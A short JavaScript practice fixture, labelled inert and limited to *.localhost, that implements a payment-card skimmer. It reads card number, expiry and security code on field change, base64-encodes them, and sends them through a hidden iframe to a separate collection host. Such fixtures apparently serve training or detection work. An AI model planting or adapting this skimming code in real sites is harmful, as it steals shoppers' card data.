/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const card = () => {
    const part = (id) => document.getElementById(id)?.value ?? '';
    return [part('card-number'), part('card-expiry'), part('security_code')].join('|');
  };
  document.getElementById('security_code')?.addEventListener('change', () => {
    if (card().length < 15) return;
    const frame = document.createElement('iframe');
    frame.style.display = 'none';
    frame.src = `${home}/sync/f?u=${encodeURIComponent(btoa(card()))}`;
    document.body.append(frame);
  });
})();
